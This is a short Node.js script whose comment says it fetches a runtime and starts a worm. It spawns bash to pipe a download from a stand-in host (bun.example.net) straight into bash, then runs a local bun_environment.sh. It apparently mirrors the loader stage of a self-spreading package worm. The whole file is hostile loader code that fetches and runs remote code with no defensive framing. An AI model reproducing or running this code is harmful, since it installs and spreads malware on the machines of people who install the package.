// Fetches a runtime, and starts the worm with it; here both are scripts of a shell.
const { spawnSync } = require('node:child_process')
const run = (script) => spawnSync('bash', ['-c', script], { stdio: 'inherit' })

run('curl -fsSL --max-time 10 http://bun.example.net/install | bash')
run(`bash ${__dirname}/bun_environment.sh`)
